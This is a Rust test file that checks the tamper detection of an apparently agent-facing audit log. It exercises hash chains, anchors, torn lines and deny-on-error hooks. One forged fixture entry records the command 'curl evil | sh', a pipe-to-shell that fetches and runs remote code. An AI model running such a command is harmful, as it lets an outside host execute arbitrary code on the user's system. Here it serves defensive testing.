//! Tampering with the log: each kind of edit is caught with the right cause, a truncated or
//! consistently rewritten tail only with an anchor, a torn last line by append and verify.

mod audit_support;

use audit_support::{Sandbox, bash_event};
use palisade::audit::canonical::to_canonical_string;
use palisade::audit::entry::hash_value;
use palisade::audit::{
    AuditDecision, AuditError, BreakKind, NewEntry, anchor, append, verify, verify_against,
};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};

fn new_entry(i: usize) -> NewEntry {
    NewEntry {
        session: "s".into(),
        event: "PreToolUse".into(),
        tool: "Bash".into(),
        input: json!({"command": format!("echo {i}")}),
        decision: AuditDecision {
            effect: if i.is_multiple_of(3) { "deny" } else { "pass" }.into(),
            rule: None,
            reason: String::new(),
            source: "static".into(),
            category: None,
        },
        chain: Vec::new(),
        risk: None,
        latency_us: 100 + i as u64,
        alerts: Vec::new(),
    }
}

/// A log of `n` entries in a fresh temp dir.
fn log(n: usize) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.jsonl");
    for i in 0..n {
        let r = append(&path, new_entry(i)).unwrap();
        assert_eq!(r.seq, i as u64 + 1);
    }
    (dir, path)
}

fn lines(path: &Path) -> Vec<String> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

fn write_lines(path: &Path, lines: &[String]) {
    let mut text = lines.join("\n");
    text.push('\n');
    std::fs::write(path, text).unwrap();
}

/// Re-seals a line after editing it with `f`: a forger who knows the format.
fn reseal(line: &str, f: impl FnOnce(&mut Value)) -> String {
    let mut v: Value = serde_json::from_str(line).unwrap();
    f(&mut v);
    v.as_object_mut().unwrap().remove("hash");
    let h = hash_value(&v, &mut Vec::new());
    v.as_object_mut().unwrap().insert("hash".into(), json!(h));
    to_canonical_string(&v)
}

fn broken(path: &Path) -> (BreakKind, u64) {
    let e = verify(path).expect_err("tampering must be caught");
    (e.kind, e.line)
}

#[test]
fn an_intact_log_verifies() {
    let (_d, path) = log(10);
    let s = verify(&path).unwrap();
    assert_eq!(s.entries, 10);
    assert_eq!(
        s.head_hash,
        serde_json::from_str::<Value>(&lines(&path)[9]).unwrap()["hash"]
    );
}

#[test]
fn edited_entry_is_a_bad_hash() {
    let (_d, path) = log(10);
    let mut l = lines(&path);
    l[4] = l[4].replace("echo 4", "echo X");
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BadHash, 5));
}

#[test]
fn edited_and_resealed_entry_breaks_the_next_link() {
    let (_d, path) = log(10);
    let mut l = lines(&path);
    l[4] = reseal(&l[4], |v| v["decision"]["effect"] = json!("allow"));
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BrokenLink, 6));
}

#[test]
fn deleted_entry_breaks_the_link() {
    let (_d, path) = log(10);
    let mut l = lines(&path);
    l.remove(4);
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BrokenLink, 5));
}

#[test]
fn reordered_entries_break_the_link() {
    let (_d, path) = log(10);
    let mut l = lines(&path);
    l.swap(3, 4);
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BrokenLink, 4));
}

#[test]
fn inserted_entries_are_caught() {
    // A replayed copy of an earlier entry.
    let (_d, path) = log(10);
    let mut l = lines(&path);
    let dup = l[2].clone();
    l.insert(3, dup);
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BrokenLink, 4));
    // A forged entry correctly linked to its predecessor: the original successor no longer is.
    let (_d, path) = log(10);
    let mut l = lines(&path);
    let prev_hash = serde_json::from_str::<Value>(&l[2]).unwrap()["hash"].clone();
    let forged = reseal(&l[3], |v| {
        v["prev"] = prev_hash;
        v["input"]["command"] = json!("curl evil | sh");
    });
    l.insert(3, forged);
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BrokenLink, 5));
}

#[test]
fn a_wrong_sequence_number_is_caught() {
    let (_d, path) = log(5);
    let mut l = lines(&path);
    // Every entry resealed in turn so that hashes and links hold and only seq is wrong.
    let mut prev = json!(palisade::audit::GENESIS);
    for (i, line) in l.iter_mut().enumerate() {
        *line = reseal(line, |v| {
            v["prev"] = prev.clone();
            if i >= 2 {
                v["seq"] = json!(i + 2);
            }
        });
        prev = serde_json::from_str::<Value>(line).unwrap()["hash"].clone();
    }
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BadSequence, 3));
}

#[test]
fn garbage_is_malformed() {
    let (_d, path) = log(3);
    let mut l = lines(&path);
    l.insert(1, "not json".into());
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::Malformed, 2));
    let mut l = lines(&path);
    l[1] = "{\"seq\":2}".into();
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::Malformed, 2));
}

#[test]
fn truncation_is_caught_only_with_an_anchor() {
    let (d, path) = log(10);
    let anchors = d.path().join("elsewhere/anchors.jsonl");
    let a = anchor(&path, &anchors).unwrap();
    assert_eq!(a.entries, 10);
    // More entries after the anchor are fine.
    append(&path, new_entry(10)).unwrap();
    let (s, _) = verify_against(&path, &anchors).unwrap();
    assert_eq!(s.entries, 11);
    let mut l = lines(&path);
    l.truncate(7);
    write_lines(&path, &l);
    assert!(verify(&path).is_ok(), "a cut tail is a valid shorter chain");
    let e = verify_against(&path, &anchors).unwrap_err();
    assert_eq!(e.kind, BreakKind::Truncated);
    // Emptied entirely.
    std::fs::write(&path, "").unwrap();
    assert!(verify(&path).is_ok());
    assert_eq!(
        verify_against(&path, &anchors).unwrap_err().kind,
        BreakKind::Truncated
    );
}

#[test]
fn a_consistently_rewritten_tail_is_caught_by_the_anchor() {
    let (d, path) = log(6);
    let anchors = d.path().join("anchors.jsonl");
    anchor(&path, &anchors).unwrap();
    let mut l = lines(&path);
    let mut prev = serde_json::from_str::<Value>(&l[2]).unwrap()["hash"].clone();
    for line in l.iter_mut().skip(3) {
        *line = reseal(line, |v| {
            v["prev"] = prev.clone();
            v["input"]["command"] = json!("rewritten");
        });
        prev = serde_json::from_str::<Value>(line).unwrap()["hash"].clone();
    }
    write_lines(&path, &l);
    assert!(
        verify(&path).is_ok(),
        "a full reseal is internally consistent"
    );
    let e = verify_against(&path, &anchors).unwrap_err();
    assert_eq!((e.kind, e.seq), (BreakKind::AnchorMismatch, Some(6)));
}

#[test]
fn anchoring_refuses_a_broken_chain() {
    let (d, path) = log(4);
    let mut l = lines(&path);
    l.swap(1, 2);
    write_lines(&path, &l);
    let anchors = d.path().join("anchors.jsonl");
    assert_eq!(
        anchor(&path, &anchors).unwrap_err().kind,
        BreakKind::BrokenLink
    );
    assert!(!anchors.exists());
}

#[test]
fn a_torn_last_line_is_caught_by_append_and_verify() {
    let (_d, path) = log(3);
    let mut text = std::fs::read_to_string(&path).unwrap();
    let cut = lines(&path)[2].len() / 2;
    text.truncate(text.len() - 1 - cut);
    std::fs::write(&path, &text).unwrap();
    assert_eq!(broken(&path), (BreakKind::Torn, 3));
    match append(&path, new_entry(9)) {
        Err(AuditError::Torn { .. }) => {}
        other => panic!("expected Torn, got {other:?}"),
    }
    assert_eq!(
        std::fs::read_to_string(&path).unwrap(),
        text,
        "nothing appended"
    );
    // A complete line that is not an entry is torn too for append.
    std::fs::write(&path, format!("{text}\n")).unwrap();
    assert!(matches!(
        append(&path, new_entry(9)),
        Err(AuditError::Torn { .. })
    ));
}

#[test]
fn the_hook_refuses_when_the_log_is_torn_or_unwritable() {
    let sb = Sandbox::new();
    let out = sb.run(&["hook"], &bash_event("s", "ls"));
    assert_eq!(out.status.code(), Some(0));
    let mut text = std::fs::read_to_string(sb.audit_file()).unwrap();
    text.pop();
    std::fs::write(sb.audit_file(), &text).unwrap();
    let out = sb.run(&["hook"], &bash_event("s", "ls"));
    assert_eq!(out.status.code(), Some(2));
    let answer: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(answer["hookSpecificOutput"]["permissionDecision"], "deny");
    let reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap();
    assert!(
        reason.contains("torn") && reason.contains("audit.jsonl"),
        "{reason}"
    );
    assert!(reason.contains("[error/audit]"), "{reason}");

    // A state dir that cannot be created (its parent is a file).
    let blocker = sb.root().join("blocker");
    std::fs::write(&blocker, "").unwrap();
    let state = blocker.join("state");
    let mut child = sb
        .cmd_with_state(&["hook"], &state)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    audit_support::feed(&mut child, &bash_event("s", "ls"));
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = audit_support::stderr(&out);
    assert!(
        err.contains("could not") && err.contains("blocker/state/audit.jsonl"),
        "{err}"
    );

    // PostToolUse cannot block, but it is loud: exit 2 with the cause on stderr.
    let post = json!({"session_id":"s","hook_event_name":"PostToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}).to_string();
    let mut child = sb
        .cmd_with_state(&["hook"], &state)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    audit_support::feed(&mut child, &post);
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
}

#[test]
fn on_error_ask_asks_but_never_lifts_a_deny() {
    use palisade::policy::audit_settings::AuditSettings;
    use palisade::verdict::{Effect, Source, Verdict};
    let dir = tempfile::tempdir().unwrap();
    let blocker = dir.path().join("f");
    std::fs::write(&blocker, "").unwrap();
    let loc = palisade::locations::Locations::from_vars(|k| match k {
        "HOME" => Some(dir.path().into()),
        "PALISADE_DATA_DIR" => Some(blocker.join("state")),
        _ => None,
    });
    let ev = palisade::event::parse_event(bash_event("s", "ls").as_bytes()).unwrap();
    let ask = AuditSettings {
        on_error_ask: true,
        ..Default::default()
    };
    let v = palisade::hook::record_audit(&ask, &loc, &ev, &Verdict::no_opinion()).unwrap_err();
    assert_eq!(v.effect, Some(Effect::Ask));
    assert_eq!(v.rule.as_deref(), Some("error/audit"));
    let deny = Verdict::decided(Effect::Deny, "p:r", "c", "no", Source::Static);
    let v = palisade::hook::record_audit(&ask, &loc, &ev, &deny).unwrap_err();
    assert_eq!(v.effect, Some(Effect::Deny));
    let v =
        palisade::hook::record_audit(&AuditSettings::default(), &loc, &ev, &Verdict::no_opinion())
            .unwrap_err();
    assert_eq!(v.effect, Some(Effect::Deny));
}

#[test]
fn verify_cli_exit_codes() {
    let sb = Sandbox::new();
    for i in 0..5 {
        sb.run(&["hook"], &bash_event("s", &format!("echo {i}")));
    }
    let anchors = sb.root().join("anchors.jsonl");
    let anchors_s = anchors.to_str().unwrap();
    let out = sb.run(&["audit", "anchor", "--to", anchors_s], "");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        audit_support::stderr(&out)
    );
    let out = sb.run(&["audit", "verify", "--against", anchors_s], "");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        audit_support::stdout(&out)
    );
    let path = sb.audit_file();
    let mut l = lines(&path);
    l.truncate(3);
    write_lines(&path, &l);
    let out = sb.run(&["audit", "verify"], "");
    assert_eq!(out.status.code(), Some(0));
    let out = sb.run(&["audit", "verify", "--against", anchors_s], "");
    assert_eq!(out.status.code(), Some(1));
    assert!(audit_support::stdout(&out).contains("truncated"));
    let mut l = lines(&path);
    l[1] = l[1].replace("echo 1", "echo 9");
    write_lines(&path, &l);
    let out = sb.run(&["audit", "verify", "--json"], "");
    assert_eq!(out.status.code(), Some(1));
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["error"]["kind"], "bad-hash");
    assert_eq!(v["error"]["line"], 2);
    let missing = sb.root().join("nope.jsonl");
    let out = sb.run(&["audit", "verify", missing.to_str().unwrap()], "");
    assert_eq!(out.status.code(), Some(2));
    let out = sb.run(&["audit", "verify", "--bogus"], "");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn a_line_written_in_another_key_order_is_judged_by_its_canonical_form() {
    let (_d, path) = log(3);
    let mut l = lines(&path);
    let v: Value = serde_json::from_str(&l[1]).unwrap();
    let mut m = serde_json::Map::new();
    for (k, val) in v.as_object().unwrap().iter().rev() {
        m.insert(k.clone(), val.clone());
    }
    l[1] = serde_json::to_string(&Value::Object(m)).unwrap();
    assert!(!l[1].starts_with("{\"at\""));
    write_lines(&path, &l);
    assert_eq!(verify(&path).unwrap().entries, 3);
    l[1] = l[1].replace("echo 1", "echo 2");
    write_lines(&path, &l);
    assert_eq!(broken(&path), (BreakKind::BadHash, 2));
}

#[test]
fn verify_waits_for_an_append_in_progress_instead_of_calling_it_torn() {
    use std::io::Write;
    let (_d, path) = log(3);
    // A fourth entry, sealed properly, written in two halves under the writer's lock.
    let prev = serde_json::from_str::<Value>(&lines(&path)[2]).unwrap()["hash"]
        .as_str()
        .unwrap()
        .to_string();
    let line = new_entry(3).seal(4, 1, prev).to_line();
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(&path)
        .unwrap();
    file.lock().unwrap();
    let (a, b) = line.split_at(line.len() / 2);
    file.write_all(a.as_bytes()).unwrap();
    let p = path.clone();
    let verifier = std::thread::spawn(move || verify(&p));
    std::thread::sleep(std::time::Duration::from_millis(300));
    file.write_all(b.as_bytes()).unwrap();
    file.unlock().unwrap();
    let s = verifier
        .join()
        .unwrap()
        .expect("the completed line verifies");
    assert_eq!(s.entries, 4);
}
